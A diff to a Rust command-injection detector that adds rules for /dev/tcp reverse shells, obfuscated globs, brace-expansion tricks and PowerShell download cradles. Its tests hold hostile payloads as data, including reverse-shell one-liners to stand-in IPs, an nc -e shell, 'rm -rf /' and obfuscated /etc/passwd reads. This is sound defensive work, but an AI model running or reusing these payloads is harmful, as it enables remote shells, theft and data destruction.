@@ -333,6 +333,16 @@ const PROGRAM_LIST: &[&str] = &[
     "setcap",
     "getcap",
     "busctl",
+    "bcdboot",
+    "ansible-config",
+    "ansible-console",
+    "ansible-doc",
+    "chef-run",
+    "rmt-tar",
+    "rmt-dump",
+    "ssh-copy-id",
+    "bsdtar",
+    "pipx",
 ];
 
 /// Command words that are also common English (or too short to trust):
@@ -351,7 +361,7 @@ static ENGLISH: super::Words = super::Words::with_extra(super::cmdi::WEAK, ENGLI
 /// Words that run the command after them.
 const PREFIXES: &[&str] = &[
     "time", "nohup", "sudo", "doas", "strace", "ltrace", "nice", "timeout", "stdbuf", "setsid", "command", "builtin", "busybox", "env",
-    "xargs", "exec",
+    "xargs", "exec", ".shell", ".system", ".",
 ];
 
 fn is_word_byte(b: u8) -> bool {
@@ -417,6 +427,14 @@ fn read_args(s: &[u8], mut i: usize, out: &mut Args) -> usize {
                     continue;
                 }
                 out.words += 1;
+                // `if=/etc/passwd`, `--file=/etc/shadow`: the value of an option.
+                let w = match memchr::memchr(b'=', w) {
+                    Some(eq) if eq > 0 && w[eq + 1..].starts_with(b"/") => {
+                        out.flag |= w[0] == b'-';
+                        &w[eq + 1..]
+                    }
+                    _ => w,
+                };
                 if (w[0] == b'-' && w.len() > 1 && w[1].is_ascii_alphabetic()) || (w.starts_with(b"--") && w.len() > 2) {
                     out.flag = true;
                 } else if w.starts_with(b"/")
@@ -549,8 +567,26 @@ fn constructs(s: &[u8]) -> Option<(usize, &'static str)> {
     if let Some(at) = function_definition(s) {
         return Some((at, "shell function definition"));
     }
+    if let Some(at) = variable_run_with_code(s) {
+        return Some((at, "shell variable run as a command with inline code"));
+    }
     if let Some(at) = assigned_then_run(s) {
         return Some((at, "variable assigned, then run as a command"));
+    }
+    // `>/dev/tcp/10.0.0.1/4444`, `$d/tcp/host/port`: bash's network
+    // redirection, the reverse shell's socket.
+    for proto in [&b"/tcp/"[..], b"/udp/"] {
+        if let Some(p) = super::find(s, proto) {
+            let rest = &s[p + 5..];
+            let host = rest.iter().take(64).take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':')).count();
+            // Under `/dev`, or under a variable holding it (`$d/tcp/…`).
+            let var =
+                s[..p].iter().rev().take(16).take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'{' || b == b'}').count();
+            let under = s[..p].ends_with(b"/dev") || (var > 0 && p > var && s[p - var - 1] == b'$');
+            if under && host > 0 && rest.get(host) == Some(&b'/') && rest.get(host + 1).is_some_and(u8::is_ascii_digit) {
+                return Some((p, "network redirection (/dev/tcp)"));
+            }
+        }
     }
     // `| sh`, `|bash -i`: piping into a shell.
     let mut from = 0;
@@ -576,7 +612,7 @@ fn brace_expansion(s: &[u8]) -> Option<usize> {
         from = open + 1;
         let Some(close) = memchr::memchr(b'}', &s[open..(open + 48).min(s.len())]) else { continue };
         let inner = &s[open + 1..open + close];
-        if !inner.contains(&b',') || inner.iter().any(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b':' | b'{')) {
+        if !inner.contains(&b',') || inner.iter().any(|b| b.is_ascii_whitespace() || matches!(b, b':' | b'{')) {
             continue;
         }
         let pre_len = s[..open].iter().rev().take(16).take_while(|b| b.is_ascii_alphanumeric()).count();
@@ -584,7 +620,9 @@ fn brace_expansion(s: &[u8]) -> Option<usize> {
         let post_len = s[open + close + 1..].iter().take(16).take_while(|b| b.is_ascii_alphanumeric()).count();
         let post = &s[open + close + 1..open + close + 1 + post_len];
         for alt in inner.split(|&b| b == b',') {
-            let w = [pre, alt, post].concat();
+            // `{,$'whoami',}`: ANSI-C and plain quoting around an alternative.
+            let alt: Vec<u8> = alt.iter().copied().filter(|b| !matches!(b, b'\'' | b'"' | b'$')).collect();
+            let w = [pre, &alt[..], post].concat();
             if !w.is_empty() && !w.starts_with(b"-") && program(&w).is_some() {
                 return Some(open - pre_len);
             }
@@ -634,7 +672,10 @@ fn glob_match(pat: &[u8], text: &[u8]) -> bool {
                                 Some(b'!' | b'^') => (true, &set[1..]),
                                 _ => (false, set),
                             };
-                            let hit = set.windows(3).any(|w| w[1] == b'-' && (w[0]..=w[2]).contains(&text[t])) || set.contains(&text[t]);
+                            // `[?]`, `[*]`: a class that stands for any character.
+                            let hit = set.iter().any(|&b| b == b'?' || b == b'*')
+                                || set.windows(3).any(|w| w[1] == b'-' && (w[0]..=w[2]).contains(&text[t]))
+                                || set.contains(&text[t]);
                             if hit != neg {
                                 p = e + 1;
                                 t += 1;
@@ -701,7 +742,7 @@ fn glob_system_path(s: &[u8]) -> Option<usize> {
             + s[at..]
                 .iter()
                 .take(128)
-                .take_while(|&&b| !matches!(b, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\'' | b'"' | b'`' | b')'))
+                .take_while(|&&b| !matches!(b, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\'' | b'"' | b'`' | b')' | b',' | b'}'))
                 .count();
         from = end.max(at + 1);
         if at > 0 && !matches!(s[at - 1], b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'=' | b'(' | b'`' | b'\'' | b'"' | b'{' | b',') {
@@ -711,7 +752,8 @@ fn glob_system_path(s: &[u8]) -> Option<usize> {
         if !tok.iter().any(|&b| matches!(b, b'?' | b'*' | b'[')) || tok.iter().filter(|&&b| b == b'/').count() < 2 {
             continue;
         }
-        if GLOB_TARGETS.iter().any(|g| glob_match(tok, g)) {
+        // `/?s?/?i?/c?t`: programs are also reached under `/usr`.
+        if GLOB_TARGETS.iter().any(|g| glob_match(tok, g) || g.starts_with(b"/bin/") && glob_match(tok, &[&b"/usr"[..], g].concat())) {
             return Some(at);
         }
         let letters: Vec<u8> = tok.iter().copied().filter(|b| b.is_ascii_alphabetic() || *b == b'/').collect();
@@ -741,6 +783,26 @@ fn function_definition(s: &[u8]) -> Option<usize> {
     (memchr::memchr2(b'|', b'&', body).is_some() && memchr::memchr(b'}', body).is_some()).then_some(name_start)
 }
 
+/// `$SHELL -c "…"`, `${BASH} -c id`: a variable in command position given
+/// inline code.
+fn variable_run_with_code(s: &[u8]) -> Option<usize> {
+    for (start, _) in command_starts(s).take(64) {
+        let i = start + s[start..].iter().take(16).take_while(|b| b.is_ascii_whitespace()).count();
+        let Some(r) = s[i..].strip_prefix(b"$") else { continue };
+        let r = r.strip_prefix(b"{").unwrap_or(r);
+        let n = r.iter().take(32).take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_').count();
+        if n == 0 || r[0].is_ascii_digit() {
+            continue;
+        }
+        let r = r[n..].strip_prefix(b"}").unwrap_or(&r[n..]);
+        let r = r.trim_ascii_start();
+        if [&b"-c "[..], b"-c'", b"-c\"", b"-e "].iter().any(|f| r.starts_with(f)) {
+            return Some(i);
+        }
+    }
+    None
+}
+
 /// `a=cat;$a /etc/passwd`, `garb=adduser;$garb x`: a variable that is set,
 /// then used in command position.
 fn assigned_then_run(s: &[u8]) -> Option<usize> {
@@ -764,7 +826,9 @@ fn assigned_then_run(s: &[u8]) -> Option<usize> {
     None
 }
 
-pub fn judge(s: &[u8]) -> Option<(Confidence, String, usize)> {
+/// `obfuscated`: the value had quoting tricks only evasion uses, so any
+/// program in command position with arguments is a command.
+pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> {
     let mut best: Option<(Confidence, String, usize)> = None;
     fn consider(best: &mut Option<(Confidence, String, usize)>, c: Confidence, why: String, at: usize) {
         if best.as_ref().is_none_or(|b| c > b.0) {
@@ -785,6 +849,15 @@ pub fn judge(s: &[u8]) -> Option<(Confidence, String, usize)> {
             i += 1;
         }
         let mut prefixed = false;
+        // `|$u wget x`, `;$a cat x`: an unset variable expands to nothing
+        // in front of the command.
+        if !at_value_start && s.get(i) == Some(&b'$') {
+            let n = s[i + 1..].iter().take(9).take_while(|b| b.is_ascii_alphabetic()).count();
+            if (1..=8).contains(&n) && s.get(i + 1 + n) == Some(&b' ') {
+                i += n + 2;
+                prefixed = true;
+            }
+        }
         let mut word_start = i;
         let mut word;
         let mut hops = 0;
@@ -842,14 +915,20 @@ pub fn judge(s: &[u8]) -> Option<(Confidence, String, usize)> {
             break;
         }
         // `alias x=env`: a shell alias definition.
-        if name == "alias" && (rest.starts_with(b"-") || rest.iter().take(40).take_while(|b| !b.is_ascii_whitespace()).any(|&b| b == b'='))
+        if name == "alias"
+            && (rest.starts_with(b"-")
+                || rest.starts_with(b"+")
+                || rest.iter().take(40).take_while(|b| !b.is_ascii_whitespace()).any(|&b| b == b'='))
         {
             consider(&mut best, High, "command injection: alias definition".into(), word_start);
             break;
         }
-        let program_shaped = !english && (strong_args || args.path);
-        let english_shaped = english && (args.syspath || args.flag && (args.path || args.redirect || args.var));
-        let conf = if prefixed && (!english || strong_args) || program_shaped || english_shaped {
+        let program_shaped = !english && (strong_args || args.path || matches!(s.get(i), Some(b';' | b'|' | b'&' | b'`')));
+        // `;env --version`: an English command word right after the
+        // separator that opens the value, given a flag.
+        let opened = start > 0 && s[..start].iter().all(|&b| matches!(b, b';' | b'|' | b'&' | b' ' | b'\n'));
+        let english_shaped = english && (args.syspath || args.flag && (args.path || args.redirect || args.var || opened));
+        let conf = if prefixed && (!english || strong_args) || program_shaped || english_shaped || obfuscated && args.words > 0 {
             High
         } else if !english && !at_value_start && name.len() > 2 {
             // `; ansible-config dump`, `| visudo`: a program after a separator.
@@ -880,7 +959,8 @@ fn windows_control(word: &[u8], rest: &[u8]) -> Option<&'static str> {
             let in_at = super::find(win, b" in ")?;
             win[in_at + 4..].trim_ascii_start().starts_with(b"(").then_some("for … in (…) do")
         }
-        b"if" => {
+        // `if/i a==b`: the switch glued to the keyword.
+        b"if" | b"if/i" => {
             let mut r = win;
             for skip in [&b"/i "[..], b"not "] {
                 if let Some(x) = r.strip_prefix(skip) {
@@ -942,8 +1022,11 @@ fn powershell(word: &[u8], rest: &[u8]) -> Option<Confidence> {
         let with_args = !rest.is_empty() && !rest.starts_with(b".") && !rest.starts_with(b",");
         return Some(if with_args || word == b"invoke-expression" { High } else { Medium });
     }
+    let rest = rest.trim_ascii_start();
     if matches!(word, b"iex" | b"iwr" | b"iwmi" | b"gwmi" | b"icm" | b"saps" | b"irm")
-        && rest.trim_ascii_start().first().is_some_and(|&b| matches!(b, b'(' | b'$' | b'\'' | b'"' | b'-'))
+        && (rest.first().is_some_and(|&b| matches!(b, b'(' | b'$' | b'\'' | b'"' | b'-'))
+            || rest.starts_with(b"http://")
+            || rest.starts_with(b"https://"))
     {
         return Some(High);
     }
@@ -955,7 +1038,7 @@ mod tests {
     use super::*;
 
     fn conf(s: &str) -> Option<Confidence> {
-        judge(s.to_ascii_lowercase().as_bytes()).map(|x| x.0)
+        judge(s.to_ascii_lowercase().as_bytes(), false).map(|x| x.0)
     }
 
     #[test]
@@ -999,6 +1082,21 @@ mod tests {
             ">(cmd)",
             "cat /e?c/pa*wd",
             "/usr/bin/[u]name -a",
+            "whoami;0'0'\"",
+            "|$u wget test",
+            ";env --version",
+            "$shell -c \"echo hi\"",
+            "${shell} -c id",
+            "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "{,/?s?/?i?/c?t,/e??/p??s??,}",
+            "{,$'whoami',}",
+            "dd if=/etc/passwd of=/tmp/evil.sh bs=1",
+            "if/i a==b foo",
+            ";iwr http://example.com/x.ps1",
+            "ifconfig;. rm -rf /;",
+            "cat /[?]tc/pa[?]swd",
+            ";\n.shell nc 10.10.10.1 6666 -e sh",
         ] {
             assert_eq!(conf(a), Some(High), "{a}");
         }
@@ -1030,6 +1128,9 @@ mod tests {
             "{\"a\":1,\"b\":2}",
             "~ price",
             "& more",
+            "see docs/tcp/keepalive/2 for details",
+            "it costs $5 -c off",
+            "; more -- less",
         ] {
             assert!(conf(b).is_none_or(|c| c < Medium), "{b}: {:?}", conf(b));
         }
